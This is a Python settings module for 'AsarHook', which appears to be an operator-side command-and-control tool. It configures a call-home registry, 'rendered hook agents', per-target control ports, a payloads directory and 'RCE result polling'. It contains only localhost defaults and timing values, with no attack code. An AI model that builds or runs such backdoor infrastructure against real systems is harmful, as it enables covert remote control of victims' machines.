"""
AsarHook Configuration
Loads settings from environment variables (prefix ASARHOOK_) and .env
"""

import os
import platform
from functools import lru_cache
from pathlib import Path

from pydantic_settings import BaseSettings, SettingsConfigDict

from shared.constants import (
    CALL_HOME_INTERVAL_MS,
    DEFAULT_API_PORT,
    DEFAULT_CONTROL_PORT_BASE,
    DEFAULT_MONITOR_PORT_BASE,
    DEFAULT_REGISTRY_PORT,
    EVICTION_AFTER_MS,
    JOB_TIMEOUT_MS,
    ONLINE_THRESHOLD_MS,
    POLL_ATTEMPTS,
    POLL_DELAY_S,
)


def _default_data_dir() -> Path:
    if platform.system() == 'Windows':
        return Path(os.environ.get('APPDATA', str(Path.home()))) / 'asarhook'
    elif platform.system() == 'Darwin':
        return Path.home() / 'Library' / 'Application Support' / 'asarhook'
    return Path.home() / '.asarhook'


class AsarHookSettings(BaseSettings):
    """Operator-side configuration"""

    model_config = SettingsConfigDict(
        env_prefix="ASARHOOK_",
        env_file=".env",
        env_file_encoding="utf-8",
        extra="ignore",
    )

    # Operator-local storage (backups, payloads, rendered agents)
    DATA_DIR: Path = _default_data_dir()

    # Call-home registry
    REGISTRY_HOST: str = "127.0.0.1"
    REGISTRY_PORT: int = DEFAULT_REGISTRY_PORT

    # Per-target port allocation bases
    CONTROL_PORT_BASE: int = DEFAULT_CONTROL_PORT_BASE
    MONITOR_PORT_BASE: int = DEFAULT_MONITOR_PORT_BASE

    # Agent defaults baked into rendered hook agents
    AGENT_HOST: str = "127.0.0.1"
    JOB_TIMEOUT_MS: int = JOB_TIMEOUT_MS
    CALL_HOME_INTERVAL_MS: int = CALL_HOME_INTERVAL_MS

    # Liveness
    ONLINE_THRESHOLD_MS: int = ONLINE_THRESHOLD_MS
    EVICTION_AFTER_MS: int = EVICTION_AFTER_MS

    # RCE result polling
    POLL_ATTEMPTS: int = POLL_ATTEMPTS
    POLL_DELAY_S: float = POLL_DELAY_S

    # Operator API
    API_HOST: str = "127.0.0.1"
    API_PORT: int = DEFAULT_API_PORT

    LOG_LEVEL: str = "INFO"

    @property
    def BACKUPS_DIR(self) -> Path:
        return self.DATA_DIR / "backups"

    @property
    def PAYLOADS_DIR(self) -> Path:
        return self.DATA_DIR / "payloads"

    @property
    def TMP_DIR(self) -> Path:
        return self.DATA_DIR / "tmp"


@lru_cache()
def get_settings() -> AsarHookSettings:
    """Get cached settings"""
    return AsarHookSettings()
